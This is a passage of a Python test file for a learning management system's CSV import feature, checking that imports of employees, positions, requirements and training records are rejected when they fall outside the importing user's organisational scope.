            "positions",
            [
                ["code", "name", "jenis_jabatan", "opd_code"],
                ["JF-X", "Analis", "Pelaksana", "DISDIK"],
            ],
            (2, "opd_code", "out_of_scope"),
        ),
        (
            "positions",
            [["code", "name", "jenis_jabatan"], ["PLK-01", "Pengadministrasi Baru", "Pelaksana"]],
            (2, "opd_code", "out_of_scope"),
        ),
        (
            "requirements",
            [["position_code", "competency_code", "required_level"], ["JF-GURU", "LD.01", "3"]],
            (2, "position_code", "out_of_scope"),
        ),
        ("training-records", [RECORD_HEADER, "AGUS"], (2, "nip", "out_of_scope")),
    ],
)
def test_r16_every_kind_enforces_the_scope(org, caplog, kind, rows, expected):
    if rows[1] == "AGUS":
        rows = [rows[0], record_row(org.agus.nip)]
    caplog.set_level("WARNING", logger="lms.imports")
    report = rejected_by_scope(kind, csv_bytes(rows), user=org.admin_a)
    assert codes(report) == [expected]
    assert any(r.name == "lms.imports" and f"kind={kind}" in r.getMessage() for r in caplog.records)


def test_r16_a_user_without_any_scope_can_import_nothing(org, new_nips):
    from lms.users.models import User

    learner = User.objects.get(nip=org.siti.nip)
    rows = [EMPLOYEE_HEADER, employee_row(new_nips(1)[0])]
    before = counts()
    with pytest.raises(KindNotAllowed):  # no permission: refused before reading
        run_import("employees", csv_bytes(rows), "a.csv", user=learner, commit=True)
    assert counts() == before
    assert codes(rejected_by_scope("employees", csv_bytes(rows), user=learner)) == [
        (2, "opd_code", "out_of_scope")
    ]


def test_r16_bkpsdm_sees_all(org, new_nips):
    rows = [EMPLOYEE_HEADER, employee_row(new_nips(1)[0], opd="DISDIK")]
    report = run_import("employees", csv_bytes(rows), "a.csv", user=org.bkpsdm, commit=True)
    assert report.ok and report.committed


def test_rowerror_is_the_contract_type(org):
    report = rejected("employees", csv_bytes([EMPLOYEE_HEADER, employee_row("1")]))
    assert isinstance(report.errors[0], RowError)
    assert report.errors[0] == RowError(2, "nip", "nip_length", report.errors[0].message)
